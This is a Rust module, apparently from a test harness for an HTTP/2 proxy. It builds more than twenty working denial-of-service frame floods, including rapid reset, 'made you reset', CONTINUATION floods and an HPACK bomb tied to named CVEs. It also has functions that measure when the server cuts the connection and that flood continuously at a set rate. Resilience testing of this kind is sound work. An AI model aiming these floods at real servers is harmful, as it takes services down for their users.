//! Floods of HTTP/2 frames, one connection at a time.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::timeout;

use crate::frames::*;

pub struct Flood {
    pub name: &'static str,
    /// After the settings.
    prelude: fn() -> Vec<u8>,
    /// Its `n`th part: one frame, or a few that belong together.
    next: fn(u32) -> Vec<u8>,
    settings: &'static [(u16, u32)],
    /// Whether a PING may come between two parts, whose echo shows that they have been read.
    echo: bool,
}

const PLAIN: Flood = Flood { name: "", prelude: Vec::new, next: |_| Vec::new(), settings: &[], echo: true };

const fn odd(n: u32) -> u32 {
    2 * n + 1
}

fn open(stream: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, stream, &request("POST", "/"))
}

/// A field block, too large for one frame, as HEADERS and CONTINUATION.
fn in_frames(stream: u32, block: &[u8]) -> Vec<u8> {
    let mut pieces: Vec<_> = block.chunks(16_384).collect();
    let last = pieces.pop().unwrap_or_default();
    let mut bytes = Vec::new();
    let mut kind = HEADERS;
    for piece in pieces {
        bytes.extend(frame(kind, if kind == HEADERS { END_STREAM } else { 0 }, stream, piece));
        kind = CONTINUATION;
    }
    let flags = END_HEADERS | if kind == HEADERS { END_STREAM } else { 0 };
    bytes.extend(frame(kind, flags, stream, last));
    bytes
}

pub const FLOODS: &[Flood] = &[
    // CVE-2023-44487.
    Flood {
        name: "rapid reset",
        next: |n| [get(odd(n), "/"), frame(RST_STREAM, 0, odd(n), &[0, 0, 0, 8])].concat(),
        ..PLAIN
    },
    Flood {
        name: "rapid reset of what is held",
        next: |n| [get(odd(n), "/held"), frame(RST_STREAM, 0, odd(n), &[0, 0, 0, 8])].concat(),
        ..PLAIN
    },
    // CVE-2025-8671: the server is made to reset.
    Flood { name: "made you reset: window of 0", next: |n| [open(odd(n)), window(odd(n), 0)].concat(), ..PLAIN },
    Flood {
        name: "made you reset: window too large",
        next: |n| [open(odd(n)), window(odd(n), MOST_WINDOW)].concat(),
        ..PLAIN
    },
    Flood {
        name: "made you reset: depends on itself",
        next: |n| [open(odd(n)), frame(PRIORITY, 0, odd(n), &[&odd(n).to_be_bytes()[..], &[0]].concat())].concat(),
        ..PLAIN
    },
    Flood {
        name: "made you reset: DATA after its end",
        next: |n| [get(odd(n), "/held"), frame(DATA, 0, odd(n), b"more")].concat(),
        ..PLAIN
    },
    Flood {
        name: "malformed requests",
        next: |n| {
            let fields = block(&[("connection", "close")]);
            frame(HEADERS, END_STREAM | END_HEADERS, odd(n), &[request("GET", "/"), fields].concat())
        },
        ..PLAIN
    },
    // CVE-2024-27316 and others.
    Flood {
        name: "CONTINUATION, empty",
        prelude: || frame(HEADERS, END_STREAM, 1, &request("GET", "/")),
        next: |_| frame(CONTINUATION, 0, 1, &[]),
        echo: false,
        ..PLAIN
    },
    Flood {
        name: "CONTINUATION, full",
        prelude: || frame(HEADERS, END_STREAM, 1, &request("GET", "/")),
        next: |_| frame(CONTINUATION, 0, 1, &block(&[("x-a", &"b".repeat(4000))])),
        echo: false,
        ..PLAIN
    },
    Flood {
        name: "SETTINGS",
        next: |n| frame(SETTINGS, 0, 0, &[&[0, 1], &(n % 2 * 4096).to_be_bytes()[..]].concat()),
        ..PLAIN
    },
    Flood { name: "PING", next: |_| frame(PING, 0, 0, &[0; 8]), ..PLAIN },
    Flood { name: "empty DATA", prelude: || open(1), next: |_| frame(DATA, 0, 1, &[]), ..PLAIN },
    Flood {
        name: "padded empty DATA",
        prelude: || open(1),
        next: |_| frame(DATA, 8, 1, &[7, 0, 0, 0, 0, 0, 0, 0]),
        ..PLAIN
    },
    Flood { name: "WINDOW_UPDATE", next: |_| window(0, 1), ..PLAIN },
    Flood {
        name: "WINDOW_UPDATE, byte by byte",
        prelude: || get(1, "/large"),
        next: |_| window(1, 1),
        settings: &[(INITIAL_WINDOW, 0)],
        ..PLAIN
    },
    Flood { name: "PRIORITY", next: |n| frame(PRIORITY, 0, odd(n), &[0, 0, 0, 0, 1]), ..PLAIN },
    Flood {
        name: "headers of no length",
        next: |n| {
            let nothing = [0; 3 * 1000];
            frame(HEADERS, END_STREAM | END_HEADERS, odd(n), &[&request("GET", "/held")[..], &nothing].concat())
        },
        ..PLAIN
    },
    Flood {
        name: "HPACK bomb",
        prelude: || {
            // Into the dynamic table, of which it fills nearly all.
            let mut fields = request("GET", "/");
            fields.push(0x40);
            for text in ["x-bomb", &"b".repeat(4000)] {
                length(&mut fields, text.len());
                fields.extend_from_slice(text.as_bytes());
            }
            frame(HEADERS, END_STREAM | END_HEADERS, 1, &fields)
        },
        // And 15,000 times out of it, a byte each: 60 MB.
        next: |n| in_frames(odd(n + 1), &[&request("GET", "/held")[..], &[0x80 | 62; 15_000]].concat()),
        ..PLAIN
    },
    Flood {
        name: "cookies in crumbs",
        next: |n| {
            let crumbs: Vec<_> = (0..1500).map(|_| ("cookie", "a=b")).collect();
            in_frames(odd(n), &[request("GET", "/held"), block(&crumbs)].concat())
        },
        ..PLAIN
    },
    Flood {
        name: "large answers, window of 0",
        next: |n| get(odd(n), "/large"),
        settings: &[(INITIAL_WINDOW, 0)],
        ..PLAIN
    },
    Flood { name: "streams beyond the limit", next: |n| get(odd(n), "/held"), ..PLAIN },
    Flood { name: "unknown frames, empty", next: |_| frame(0x42, 0, 0, &[]), ..PLAIN },
    Flood { name: "unknown frames, full", next: |n| frame(0x42, 0, odd(n), &[0; 16_384]), ..PLAIN },
];

/// How many frames of a part have gone when the connection has ended, in lockstep: what is sent has been read before more
/// is sent. `None`: it has not ended after `most`.
pub async fn frames_until_ended(flood: &Flood, proxy: SocketAddr, most: usize) -> std::io::Result<Option<usize>> {
    let mut stream = TcpStream::connect(proxy).await?;
    stream.set_nodelay(true)?;
    let begin = [hello(flood.settings), frame(SETTINGS, ACK, 0, &[]), (flood.prelude)()].concat();
    stream.write_all(&begin).await?;
    let (mut sent, mut n) = (0, 0);
    let mut back = Back::default();
    while sent < most {
        let mut some = Vec::new();
        for _ in 0..8 {
            some.extend((flood.next)(n));
            n += 1;
        }
        sent += count(&some);
        if flood.echo {
            some.extend(frame(PING, 0, 0, &u64::from(n).to_be_bytes()));
        }
        // Who is ended before all of it has gone has sent some of it in vain, at most.
        let ended = match stream.write_all(&some).await {
            Err(_) => true,
            Ok(()) if flood.echo => {
                timeout(Duration::from_millis(500), back.until_echo(&mut stream, n)).await.unwrap_or(false)
            }
            Ok(()) => timeout(Duration::from_millis(5), back.until_end(&mut stream)).await.is_ok(),
        };
        if ended {
            return Ok(Some(sent));
        }
    }
    Ok(None)
}

/// What comes back.
#[derive(Default)]
struct Back(Vec<u8>);

impl Back {
    /// Whether the end came before the echo.
    async fn until_echo(&mut self, stream: &mut TcpStream, n: u32) -> bool {
        loop {
            while let [a, b, c, kind, flags, ..] = self.0[..] {
                let end = HEAD + u32::from_be_bytes([0, a, b, c]) as usize;
                if self.0.len() < end {
                    break;
                }
                let echo = kind == PING && flags & ACK != 0 && self.0[HEAD..end] == u64::from(n).to_be_bytes();
                self.0.drain(..end);
                if echo {
                    return false;
                }
            }
            if !matches!(stream.read_buf(&mut self.0).await, Ok(read) if read > 0) {
                return true;
            }
        }
    }

    async fn until_end(&mut self, stream: &mut TcpStream) {
        while matches!(stream.read_buf(&mut self.0).await, Ok(read) if read > 0) {
            self.0.clear();
        }
    }
}

/// Bytes that are written together, at most so many and one part.
const AT_ONCE: usize = 128 * 1024;

/// Floods until `deadline`, on a new connection whenever one has ended. Returns the frames that went, and how many
/// connections have ended. `reads`: whether what comes back is taken.
pub async fn rage(flood: &Flood, proxy: SocketAddr, per_second: u32, reads: bool, deadline: Instant) -> (u64, u64) {
    let (mut sent, mut ended) = (0, 0);
    let pause = Duration::from_millis(5);
    let at_once = (f64::from(per_second) * pause.as_secs_f64()) as usize;
    while Instant::now() < deadline {
        let Ok(stream) = TcpStream::connect(proxy).await else {
            tokio::time::sleep(pause).await;
            continue;
        };
        let (mut from, mut to) = stream.into_split();
        let taking = reads.then(|| {
            tokio::task::spawn_local(async move {
                let mut waste = vec![0; 64 * 1024];
                while matches!(from.read(&mut waste).await, Ok(read) if read > 0) {}
            })
        });
        let outcome = async {
            to.write_all(&[hello(flood.settings), (flood.prelude)()].concat()).await?;
            let mut every = tokio::time::interval(pause);
            every.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
            let mut n = 0;
            loop {
                let mut some = Vec::new();
                let mut frames = 0;
                while frames < at_once && some.len() < AT_ONCE {
                    let part = (flood.next)(n);
                    frames += count(&part);
                    some.extend(part);
                    n += 1;
                }
                to.write_all(&some).await?;
                sent += frames as u64;
                every.tick().await;
                if taking.as_ref().is_some_and(|taking| taking.is_finished()) {
                    break;
                }
            }
            std::io::Result::Ok(())
        };
        match tokio::time::timeout_at(deadline.into(), outcome).await {
            Err(_) => {}
            Ok(_) => ended += 1,
        }
        if let Some(taking) = taking {
            taking.abort();
        }
    }
    (sent, ended)
}
